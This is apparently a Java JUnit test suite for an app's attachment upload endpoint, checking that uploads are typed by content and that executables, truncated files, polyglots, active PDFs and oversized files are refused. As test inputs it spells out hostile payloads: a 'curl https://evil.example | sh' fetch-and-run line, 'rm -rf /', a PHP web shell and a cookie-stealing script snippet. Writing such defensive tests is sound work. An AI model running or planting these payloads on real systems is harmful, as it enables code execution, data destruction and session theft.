package app.shipyard.attachment;

import static app.shipyard.attachment.AttachmentCalls.assertNoTemporaryFiles;
import static app.shipyard.attachment.AttachmentCalls.error;
import static app.shipyard.attachment.AttachmentCalls.fileProblem;
import static app.shipyard.attachment.AttachmentCalls.stored;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.shipyard.support.Api;
import app.shipyard.support.Events;
import app.shipyard.support.TestShipyard;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.Timeout;
import io.vertx.junit5.VertxExtension;
import java.util.Arrays;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@ExtendWith(VertxExtension.class)
@Timeout(value = 120, timeUnit = TimeUnit.SECONDS)
@DisplayName("Attachments: what an upload is, decided by its content, and what is refused")
class AttachmentUploadTest {

  private AttachmentCalls calls;
  private String captain;
  private long project;

  @BeforeEach
  void setUp(Vertx vertx) {
    TestShipyard.reset();
    Api api = new Api(vertx);
    Events events = new Events(api);
    calls = new AttachmentCalls(api);
    captain = api.token(TestShipyard.EMPLOYEE);
    long event = events.create(new JsonObject());
    events.moveTo(event, "pitching");
    project = events.pitch(captain, event, new JsonObject().put("title", "Carbon bot"));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"png", "jpeg", "gif", "webp", "pdf"})
  @DisplayName("Each accepted type is stored with the type its content has, and images get their size")
  void acceptedTypes(String kind) {
    byte[] bytes = switch (kind) {
      case "webp" -> TestFiles.WEBP;
      case "pdf" -> TestFiles.pdf();
      default -> TestFiles.image(kind, 64, 48);
    };
    JsonObject stored = calls.uploaded(captain, project, "file." + kind, "application/octet-stream", bytes);
    String type = kind.equals("pdf") ? "application/pdf" : "image/" + kind;
    assertEquals(type, stored.getString("type"));
    assertEquals(bytes.length, stored.getInteger("size"));
    assertEquals("Our dashboard", stored.getString("caption"));
    assertEquals(kind.equals("pdf") ? null : kind.equals("webp") ? 1 : 64, stored.getInteger("width"));
    HttpResponse<Buffer> file = calls.get(captain, stored.getString("url"));
    assertEquals(200, file.statusCode());
    assertEquals(type, file.getHeader("Content-Type"));
    assertTrue(Arrays.equals(bytes, file.body().getBytes()), "the bytes come back as they were sent");
    assertNoTemporaryFiles();
  }

  @Test
  @DisplayName("A PNG named .pdf and declared a PDF is a PNG (named .png); a PDF declared image/png is a PDF")
  void typeByContent() {
    JsonObject png = calls.uploaded(captain, project, "report.pdf", "application/pdf", TestFiles.png(40, 30));
    assertEquals("image/png", png.getString("type"));
    assertEquals("report.png", png.getString("fileName"));
    JsonObject pdf = calls.uploaded(captain, project, "shot.png", "image/png", TestFiles.pdf());
    assertEquals("application/pdf", pdf.getString("type"));
    assertEquals("shot.pdf", pdf.getString("fileName"));
    assertEquals("application/pdf", calls.get(captain, pdf.getString("url")).getHeader("Content-Type"));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"elf", "pe", "script"})
  @DisplayName("A renamed executable or script is refused with what its content is, and nothing is stored")
  void executables(String kind) {
    byte[] bytes = switch (kind) {
      case "elf" -> TestFiles.elf();
      case "pe" -> TestFiles.pe();
      default -> TestFiles.ascii("#!/bin/sh\ncurl https://evil.example | sh\n");
    };
    HttpResponse<Buffer> refused = calls.upload(captain, project, "screenshot.png", "image/png", bytes);
    assertEquals(400, refused.statusCode(), refused.bodyAsString());
    assertTrue(fileProblem(refused).startsWith("must be a PNG, JPEG, WebP, GIF or PDF file; by its content this one is"),
        fileProblem(refused));
    assertEquals(0, stored());
    assertNoTemporaryFiles();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"png", "jpeg", "gif", "pdf"})
  @DisplayName("A truncated file is refused: an image must decode whole, a PDF must reach its end")
  void truncated(String kind) {
    byte[] whole = kind.equals("pdf") ? TestFiles.pdf() : TestFiles.image(kind, 200, 150);
    byte[] half = Arrays.copyOf(whole, whole.length * 2 / 3);
    HttpResponse<Buffer> refused = calls.upload(captain, project, "cut." + kind, "image/png", half);
    assertEquals(400, refused.statusCode(), refused.bodyAsString());
    assertTrue(fileProblem(refused).contains("truncated"), fileProblem(refused));
    assertEquals(0, stored());
  }

  @Test
  @DisplayName("Polyglots are refused: an image with an archive after its end, or with page code inside it")
  void polyglots() {
    byte[] png = TestFiles.png(40, 30);
    HttpResponse<Buffer> zip = calls.upload(captain, project, "a.png", "image/png", TestFiles.concat(png, TestFiles.zip()));
    assertEquals(400, zip.statusCode(), zip.bodyAsString());
    assertTrue(fileProblem(zip).contains("ZIP or JAR"), fileProblem(zip));
    byte[] jpeg = TestFiles.image("jpeg", 40, 30);
    HttpResponse<Buffer> appended = calls.upload(captain, project, "a.jpg", "image/jpeg",
        TestFiles.concat(jpeg, TestFiles.ascii("#!/bin/sh\nrm -rf /\n")));
    assertEquals(400, appended.statusCode(), appended.bodyAsString());
    assertTrue(fileProblem(appended).contains("after the end of the image"), fileProblem(appended));
    HttpResponse<Buffer> gifar = calls.upload(captain, project, "c.gif", "image/gif",
        TestFiles.concat(TestFiles.image("gif", 40, 30), TestFiles.zip()));
    assertEquals(400, gifar.statusCode(), "a GIF with a JAR after it (a GIFAR)");
    HttpResponse<Buffer> webp = calls.upload(captain, project, "d.webp", "image/webp",
        TestFiles.concat(TestFiles.WEBP, TestFiles.ascii("<?php system($_GET['c']); ?>")));
    assertEquals(400, webp.statusCode(), webp.bodyAsString());
    HttpResponse<Buffer> riff = calls.upload(captain, project, "e.webp", "image/webp",
        TestFiles.concat(TestFiles.WEBP, new byte[] {1, 2, 3, 4}));
    assertTrue(fileProblem(riff).contains("4 bytes of something else after the end"), fileProblem(riff));
    HttpResponse<Buffer> html = calls.upload(captain, project, "b.png", "image/png",
        TestFiles.pngWithText(png, "<html><script>alert(document.cookie)</script></html>"));
    assertEquals(400, html.statusCode(), html.bodyAsString());
    assertTrue(fileProblem(html).contains("web page or script code"), fileProblem(html));
    assertEquals(0, stored());
    assertNoTemporaryFiles();
  }

  @Test
  @DisplayName("PDFs with JavaScript or with a second PDF inside are refused")
  void activePdfs() {
    HttpResponse<Buffer> script = calls.upload(captain, project, "deck.pdf", "application/pdf", TestFiles.pdf(true));
    assertEquals(400, script.statusCode(), script.bodyAsString());
    assertTrue(fileProblem(script).contains("scripts, actions or embedded files"), fileProblem(script));
    HttpResponse<Buffer> twice = calls.upload(captain, project, "deck.pdf", "application/pdf",
        TestFiles.concat(TestFiles.pdf(), TestFiles.pdf()));
    assertEquals(400, twice.statusCode(), twice.bodyAsString());
    assertTrue(fileProblem(twice).contains("second PDF header"), fileProblem(twice));
    assertEquals(0, stored());
  }

  @Test
  @DisplayName("A file over the limit gets 413 saying the limit, nothing is stored and no temporary file stays")
  void tooBig() {
    byte[] big = Arrays.copyOf(TestFiles.png(40, 30), 10 * 1024 * 1024 + 1);
    HttpResponse<Buffer> refused = calls.upload(captain, project, "big.png", "image/png", big);
    assertEquals(413, refused.statusCode(), refused.bodyAsString());
    assertEquals("The file is too large: attachments may be at most 10 MB.", error(refused));
    byte[] huge = new byte[11 * 1024 * 1024];
    HttpResponse<Buffer> early = calls.upload(captain, project, "huge.png", "image/png", huge);
    assertEquals(413, early.statusCode(), early.bodyAsString());
    assertEquals("The file is too large: attachments may be at most 10 MB.", error(early));
    HttpResponse<Buffer> declared = calls.client().post("/api/projects/" + project + "/attachments")
        .bearerTokenAuthentication(captain).putHeader("Content-Type", "multipart/form-data; boundary=b")
        .sendBuffer(Buffer.buffer(huge)).await();
    assertEquals(413, declared.statusCode(), "refused by its Content-Length, before the body is read");
    assertEquals("The file is too large: attachments may be at most 10 MB.", error(declared));
    assertEquals(0, stored());
    assertNoTemporaryFiles();
  }

  @Test
  @DisplayName("An upload without a file, or with an empty one, says what to send")
  void missingFile() {
    HttpResponse<Buffer> none = calls.upload(captain, project, io.vertx.ext.web.multipart.MultipartForm.create()
        .attribute("caption", "Nothing"));
    assertEquals(400, none.statusCode(), none.bodyAsString());
    assertEquals("is required: send one PNG, JPEG, WebP, GIF or PDF file", fileProblem(none));
    HttpResponse<Buffer> empty = calls.upload(captain, project, "empty.png", "image/png", new byte[0]);
    assertEquals(400, empty.statusCode(), empty.bodyAsString());
    assertEquals(0, stored());
  }
}
